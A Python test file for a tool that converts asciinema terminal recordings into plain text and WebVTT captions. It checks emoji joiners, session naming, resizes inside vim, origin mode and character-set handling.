    """A screen reader says "family" for 👨‍👩‍👧 and "rainbow flag" for 🏳️‍🌈 only with the
    ZWJ; a ZWJ outside an emoji sequence is still dropped."""
    line = "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 a\u200db"
    cast = write_cast(tmp_path / "zwj.cast", 30, 3, [[0.1, "o", line]])
    result, _ = embed(cast, "--text", tmp_path / "zwj.txt")
    assert result.returncode == 0, result.stderr
    want = "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 ab"
    assert (tmp_path / "zwj.txt").read_text("utf-8").splitlines()[0] == want
    result, _ = embed(cast, "--vtt", tmp_path / "zwj.vtt")
    assert result.returncode == 0, result.stderr
    assert want in (tmp_path / "zwj.vtt").read_text("utf-8").splitlines()


def test_a_command_typed_after_output_scrolled_names_its_session() -> None:
    """The reviewer's r4: a powerline prompt at the bottom of a full screen, so every
    command scrolls it; `vim long.txt` typed there names the session `[vim]`."""
    shown = "\x1b[44m ~/proj \x1b[34;49m\ue0b0\x1b[0m "
    events = [Event(0, OUTPUT, "".join(f"{n}\r\n" for n in range(1, 6)) + shown)]
    events += [Event(1_000_000 + 100_000 * i, OUTPUT, k) for i, k in enumerate("seq 3")]
    events += [Event(2_000_000, OUTPUT, "\r\n1\r\n2\r\n3\r\n" + shown)]
    events += [Event(3_000_000 + 100_000 * i, OUTPUT, k) for i, k in enumerate("vim long.txt")]
    events += [Event(5_000_000, OUTPUT, "\r\n\x1b[?1049h\x1b[H\x1b[2J= first line =\r\n~")]
    found = cues(render_vtt(Timeline(Header(30, 4), events)))
    assert found[0] == ("00:00:00.000", ["1", "2", "3", "4", "5"])  # (scrolled before a screen)
    assert ("00:00:03.000", [" ~/proj vim long.txt"]) in found
    assert ("00:00:05.000", ["[vim]"]) in found


def test_a_session_with_nothing_typed_is_named_by_the_title_its_program_set() -> None:
    """OSC 0/2 after the switch (here split over two events) names the session; a title
    the shell set before it (Debian's bash sets `user@host: ~`) does not."""
    chunks = ["\x1b]0;user@host: ~\x07", "\x1b[?1049h\x1b[H\x1b]2;notes.txt (~) - VI", "M\x07= =",
              "\x1b[?1049l", "\x1b[?1049h\x1b[Hplain", "\x1b[?1049l"]  # fmt: skip
    assert session_cues(chunks) == ["[notes.txt (~) - VIM]", "[full-screen program]"]


@pytest.mark.parametrize("size", ["30x5", "30x14"])
def test_a_resize_inside_a_full_screen_program_repeats_no_shell_line(size: str) -> None:
    """review-exports2 item 1: the shell's lines restored (rewrapped, or back from the
    scrollback) after a resize inside vim were told again as a new cue."""
    lines = "".join(f"L{n}\r\n" for n in range(1, 13))
    events = [
        Event(200_000, OUTPUT, lines + "$ vim"),
        Event(500_000, OUTPUT, "\r\n\x1b[?1049h\x1b[H\x1b[2JVIM"),
        Event(1_000_000, "r", size),
        Event(1_500_000, OUTPUT, "\x1b[?1049l$ "),
    ]
    found = cues(render_vtt(Timeline(Header(30, 10), events)))
    texts = [line for _, lines in found for line in lines]
    assert texts.count("L11") == 1
    assert texts.count("$ vim") == 1
    assert found[-1] == ("00:00:00.500", ["[vim]"])  # (nothing told again, no bare `$`)


def test_origin_mode_and_edits_of_a_wide_characters_right_half_as_the_player(
    tmp_path: Path,
) -> None:
    """What asciinema-player 3.18.0 showed for the review's origin.cast and wideedge.cast
    (review-exports2 items 9, 10): in origin mode CUP stays inside the scroll region
    (BOT on its last row); DCH and ICH on a wide character's right half blank it."""
    from genact_cast.publish.exports import export

    lines = "\r\n".join(f"line{n}" for n in range(10))
    origin = "\x1b[3;6r\x1b[?6h\x1b[1;1HORG1\x1b[10;1HBOT\x1b[?6l"
    edits = "\x1b[H\x1b[2J日本語abcd\x1b[1;2H\x1b[1P\x1b[2;1Hab日本語\x1b[2;4H\x1b[2@"
    cases = [
        (30, 10, [lines, origin], ["line0", "line1", "ORG12", "line3", "line4", "BOTe5"]),
        (11, 3, [edits], [" 本語abcd", "ab    本語"]),
    ]
    for cols, rows, chunks, shown in cases:
        events = [[0.1 * (n + 1), "o", chunk] for n, chunk in enumerate(chunks)]
        cast = write_cast(tmp_path / "edge.cast", cols, rows, events)
        out = tmp_path / "edge.txt"
        export(str(cast), out, "text", overwrite=True, clip=Clip(), at=1.0)
        assert out.read_text("utf-8").splitlines()[: len(shown)] == shown


def test_a_space_typed_in_a_command_is_no_prompt() -> None:
    """A prompt and the first keys in one screen (fast typing), then `CUDA=1 srun`: the
    space after `CUDA=1` is no prompt, so the cue starts with the command, not at `srun`."""
    events = [Event(0, OUTPUT, "bob@trn:~$ "), Event(10_000, OUTPUT, "CUDA")]
    events += [Event(500_000 + 50_000 * i, OUTPUT, k) for i, k in enumerate("=1 srun x")]
    found = cues(render_vtt(Timeline(Header(40, 4), events)))
    assert found[0] == ("00:00:00.000", ["bob@trn:~$ CUDA=1 srun x"])


def test_character_sets_are_the_players_ascii_until_designated() -> None:
    """A stray SO (0x0E: `cat` of a binary) kept the rest of the line as ▒ ␉ ␌: pyte's G1
    starts as line drawing; avt's (and xterm's) start as ASCII. Also as avt: DECRC leaves
    the character sets alone, and of two intermediates the last is the one read. The
    player's own rendering of these is tests/data/screens/charsets.cast (player parity)."""
    from genact_cast.publish.text import plain

    cast = Header(20, 6)
    data = [
        "\x0eabc\x0f",  # G1 never designated
        "\x1b)0\x0eabc\x0f",  # designated: line drawing
        "\x1b(0\x1b7\x1b(B\x1b8lqk\x1b(B",  # DECRC: G0 stays ASCII
        "\x1b(0\x1b(%5lqk\x1b(B",  # `ESC ( % 5` designates nothing
    ]

    def shown(text: str) -> list[str]:
        screen = last_screen(Timeline(cast, [Event(100_000, OUTPUT, text)], Clip()))
        return [plain("".join(c for c, _ in row)).rstrip() for row in screen.rows]

    assert shown("\r\n".join(data))[:4] == ["abc", "▒␉␌", "lqk", "┌─┐"]
    assert shown("\x1b)0\x1bc\x0eabc")[0] == "abc"  # RIS: G1 ASCII again
